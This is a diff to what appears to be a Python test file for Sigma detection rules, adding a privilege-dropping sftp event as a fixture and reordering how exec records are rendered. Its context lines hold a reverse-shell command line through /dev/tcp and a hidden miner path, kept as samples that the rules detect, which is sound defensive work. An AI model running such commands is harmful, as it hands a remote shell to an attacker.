@@ -106,6 +106,7 @@ MATCHES = {
     "reverse_shell": ["root exec /usr/bin/bash bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
     "other_user": [
         "root exec /usr/bin/setpriv setpriv --reuid 4711 --regid 4711 --clear-groups sh -c cat root > 4711; rm -f 4711.old",
+        "root exec /usr/bin/setpriv setpriv --reuid alice --regid alice --clear-groups sftp -q -P 2222 -b batch bob@127.0.0.1",
         "root exec /usr/bin/setpriv setpriv --reuid alice --regid alice --clear-groups sh -c cat root > alice; rm -f alice.old",
     ],
     "temporary_folder": ["root exec /tmp/.x/miner miner"],
@@ -201,11 +202,13 @@ def equals(wanted: Any, value: Any) -> bool:
 def shown(record: Record) -> str:
     """A record as MATCHES has it: user, verb, and what tells it from others."""
     who = f"{record['user']['name']} {record['event']['action']}"
+    if record["event"]["action"] == "exec":
+        return f"{who} {record['process']['executable']} {record['process']['command_line']}"
     if "file" in record:
         return f"{who} {record['file']['path']}"
     if "destination" in record:
         return f"{who} {record['destination']['address']}:{record['destination']['port']}"
-    return f"{who} {record['process']['executable']} {record['process']['command_line']}"
+    raise ValueError(f"neither program, file nor connection: {record}")
 
 
 def rule(path: Path) -> SigmaCollection:
